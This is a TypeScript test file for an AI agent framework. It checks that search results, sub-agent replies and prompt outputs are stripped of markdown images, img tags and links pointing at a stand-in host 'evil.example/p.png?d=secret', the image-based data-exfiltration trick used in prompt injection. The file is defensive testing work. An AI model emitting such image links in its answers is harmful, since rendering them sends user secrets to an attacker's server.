import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ManifestSource } from "#shared/contracts/manifest.ts";
import { ask, success } from "#shared/domain-kit/answers.ts";
import { defineDomain } from "#shared/domain-kit/define-domain.ts";
import { silentLog } from "#shared/domain-kit/log.ts";
import { scriptedModel } from "../adapters/language-model/scripted-model.fixture.ts";
import { call, respond, takes } from "./agents.fixture.ts";
import { answer } from "./answer.ts";
import { executePlan } from "./execute-plan.ts";
import { openTurnDeps } from "./turn-deps.fixture.ts";

const EVIL = "https://evil.example/p.png?d=secret";
const TEXT = `The board says ok ![ok](${EVIL}) <img src="${EVIL}"> [more](${EVIL}) ${EVIL}`;
const WORDS = "The board says ok ok  more evil.example";
const goal = (name: string, capability: string) => ({
  goal: name,
  description: { en: name },
  action_type: "deterministic" as const,
  capability,
  hints: { templates: { en: [`${name.toLowerCase()} {topic}`] } },
  entities_schema: { topic: { required: true } },
});
const board: ManifestSource = {
  manifest_version: "1",
  domain: "board",
  version: "1.0.0",
  description: { en: "Board" },
  confidence_gate: { exempt: true },
  goals: [
    goal("SEARCH", "search"),
    goal("NOTES", "notes"),
    goal("PICK", "pick"),
    goal("REPORTER", "ask_reporter"),
    goal("CRITIC", "ask_critic"),
    goal("DESCRIBE", "describe"),
  ],
  capabilities: [
    { capability: "search", effect: "read", trust: "untrusted", params_schema: takes("topic") },
    { capability: "notes", effect: "read", params_schema: takes("topic") },
    {
      capability: "pick",
      effect: "read",
      trust: "untrusted",
      params_schema: { ...takes("topic", "url"), required: ["topic"] },
    },
    {
      capability: "ask_reporter",
      kind: "agent",
      effect: "read",
      params_schema: takes("topic"),
      agent: { name: "Reporter", role: "reporter", prompt: "You report.", tools: ["search"] },
    },
    {
      capability: "ask_critic",
      kind: "agent",
      effect: "read",
      params_schema: takes("topic"),
      agent: { name: "Critic", role: "critic", prompt: "You judge.", tools: [] },
    },
    {
      capability: "describe",
      kind: "reasoning",
      params_schema: takes("topic"),
      prompt: { template: { en: "Describe {topic}." } },
    },
  ],
};
const source = { title: `![x](${EVIL}) Board`, url: "https://board.example/1" };
const domain = defineDomain(
  board,
  {
    search: async () =>
      success({ result: { url: EVIL }, explanation: TEXT, metadata: { sources: [source] } }),
    notes: async ({ topic }) =>
      success({ result: null, explanation: `docs: https://b.example/c ![x](${EVIL}) ${topic}` }),
    pick: async () =>
      ask({
        explanation: `Which ![one](${EVIL})?`,
        candidates: [
          { label: `![first](${EVIL})`, url: "https://b.example/1" },
          { label: `[second](${EVIL})`, url: "https://b.example/2" },
        ],
      }),
  },
  { log: silentLog },
);
let script: readonly unknown[] = [];
let at = 0;
const model = scriptedModel(() => script[at++]);
let room: Awaited<ReturnType<typeof openTurnDeps>>;
beforeAll(async () => {
  room = await openTurnDeps([domain], { model });
});
afterAll(() => room.close());
const said = { user_id: "ana", locale: "en" as const, channel: "test", metadata: {} };
const say = (input_text: string, ...says: unknown[]) => {
  [script, at] = [says, 0];
  return answer({ ...said, session_id: input_text, input_text }, room.turnDeps());
};

describe("what comes from outside leads nowhere by itself", () => {
  it("as the words of a search; its source is beside it, under its own title", async () => {
    const told = await say("search boards");
    expect(told.answer).toBe(WORDS);
    expect(told.sources).toEqual([{ title: "x Board", url: "https://board.example/1" }]);
    // What is data stays data, for the step that opens it.
    expect(told.trace.steps[0]?.output?.result).toEqual({ url: EVIL });
  });

  it.each([
    ["an agent that read it", "reporter boards", [call("search", { topic: "x" }), respond(TEXT)]],
    ["an agent that read nothing", "critic boards", [respond(TEXT)]],
    ["a prompt", "describe boards", [TEXT]],
  ])("as the words of %s", async (_who, words, says) => {
    const told = await say(words, ...says);
    expect(told.answer).toContain("The board says ok");
    expect(told.answer).not.toMatch(/!\[|\]\(|<img|https?:|p\.png/);
    const [{ output } = { output: null }] = told.trace.steps;
    expect(JSON.stringify([output?.explanation, output?.result])).not.toContain("p.png");
  });

  it("as a question and its choices, which are still sent as they were found", async () => {
    const told = await say("pick boards");
    expect(told.pending).toMatchObject({
      question: "Which one?",
      options: [{ label: "first" }, { label: "second" }],
    });
    expect(told.answer).not.toContain("evil");
  });

  it("as what a domain of ours says again", async () => {
    const steps = [
      { id: 1, domain: "board", capability: "search", params: { topic: "x" } },
      {
        id: 2,
        domain: "board",
        capability: "notes",
        params: { topic: "${1.result.url}" },
        depends_on: [1],
      },
    ].map((step) => ({ depends_on: [], required: true, ...step }));
    const told = await executePlan(
      {
        plan: { execution_mode: "dag", combine_mode: "last", max_concurrency: 2, steps },
        entry: { ...said, session_id: "plan", input_text: "" },
      },
      room.turnDeps(),
    );
    expect(told.output.explanation).toBe("docs: b.example x evil.example");
  });
});

it("a user's own links are shown back as text, and never as pictures", async () => {
  expect((await say("notes mine")).answer).toBe(`docs: https://b.example/c ! [x](${EVIL}) mine`);
});
